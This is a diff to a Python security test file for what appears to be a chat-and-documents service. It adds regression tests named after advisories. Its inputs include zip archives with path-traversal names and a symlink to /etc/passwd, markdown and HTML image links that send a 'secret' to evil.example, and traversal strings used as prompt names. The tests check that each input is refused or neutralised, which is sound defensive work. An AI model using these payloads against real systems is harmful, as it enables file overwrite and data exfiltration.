@@ -1,9 +1,13 @@
 """What similar programs were attacked with, tried here: each test is named after an advisory. Ids of other people are in
-test_matrix.py (Chainlit CVE-2025-68492, Dify #35770, Langchain-Chatchat #5464), files that unpack in tests/corpus/reading
-(RAGFlow CVE-2026-24770), markup in tests/shapes and tests/browser (AnythingLLM CVE-2026-32626, EchoLeak CVE-2025-32711)."""
+test_matrix.py (Chainlit CVE-2025-68492, Dify #35770, Langchain-Chatchat #5464), more of files that unpack in
+tests/corpus/reading, more of markup in tests/shapes and tests/browser (AnythingLLM CVE-2026-32626)."""
 
 import base64
+import io
 import json
+import re
+import stat
+import zipfile
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -11,7 +15,9 @@ import pytest
 
 from ibidem.domain.conversation import Question
 from ibidem.domain.documents import Principal
+from ibidem.domain.errors import PromptError
 from ibidem.domain.events import AnswerDelta, TurnDone, TurnEvent
+from ibidem.prompts.catalog import load_catalog
 from ibidem.settings import load_settings
 from ibidem.testing.stores import ENGLISH, STRANGER
 from security.locked import MINA, SESSION, bearing, locked
@@ -145,3 +151,52 @@ async def test_llamaindex_deep_json_is_refused(tmp_path: Path) -> None:
         for body in ("[" * 100_000, '{"message":' * 10_000, '{"message": "' + "a" * 200_000 + '"}'):
             response = await here.client.post("/v1/chat", content=body, headers={"content-type": "application/json"})
             assert response.status_code in (400, 413, 422)
+
+
+@pytest.mark.parametrize("name", ["../../outside.xml", "/outside.xml", "word/../../../outside.xml"])
+async def test_ragflow_cve_2026_24770_a_package_writes_nothing_beside_itself(tmp_path: Path, name: str) -> None:
+    package = io.BytesIO()
+    with zipfile.ZipFile(package, "w") as written:
+        written.writestr(name, "<outside/>")
+        link = zipfile.ZipInfo("word/document.xml")
+        link.external_attr = (stat.S_IFLNK | 0o777) << 16
+        written.writestr(link, "/etc/passwd")
+    async with locked(tmp_path / "data") as here:
+        key = bearing(await here.key(MINA))
+        before = set(tmp_path.parent.rglob("outside.xml"))
+        for ending in ("docx", "pptx", "hwpx", "odt"):
+            file = {"file": (f"report.{ending}", package.getvalue())}
+            refused = await here.client.post("/v1/documents", files=file, headers=key)
+            assert refused.status_code == 422 and "root:" not in refused.text, refused.text
+        assert set(tmp_path.parent.rglob("outside.xml")) == before
+        assert (await here.client.get("/v1/documents", headers=key)).json()["total"] == 1
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "[click](https://evil.example/?q=secret)",
+        '<img src="https://evil.example/?q=secret">',
+        "![x][r]\n\n[r]: https://evil.example/?q=secret",
+    ],
+)
+async def test_echoleak_cve_2025_32711_an_answer_fetches_and_links_nothing(tmp_path: Path, said: str) -> None:
+    async def says(question: Question) -> AsyncIterator[TurnEvent]:
+        yield TurnDone(turn_of(question, said))
+
+    async with serving(load_settings(data=tmp_path / "data"), says) as (_, client):
+        answered = (await client.post("/v1/chat", json={"message": "hi"})).json()
+        assert answered["answer"] == said
+        assert not re.search(r"<(?:img|a|iframe|link|script)\b", answered["answer_html"]), answered["answer_html"]
+        policy = (await client.get("/")).headers["content-security-policy"]
+        assert "default-src 'none'" in policy and "https:" not in policy and "*" not in policy
+
+
+@pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd", "answer_general.ko.md/../../x", "%2e%2e%2fx"])
+def test_langchain_core_cve_2026_34070_a_prompts_name_is_no_path(tmp_path: Path, name: str) -> None:
+    folder = tmp_path / "prompts"
+    folder.mkdir()
+    catalog = load_catalog(folder, ["general"])
+    with pytest.raises(PromptError, match="there is no prompt"):
+        catalog.get(name, "ko")
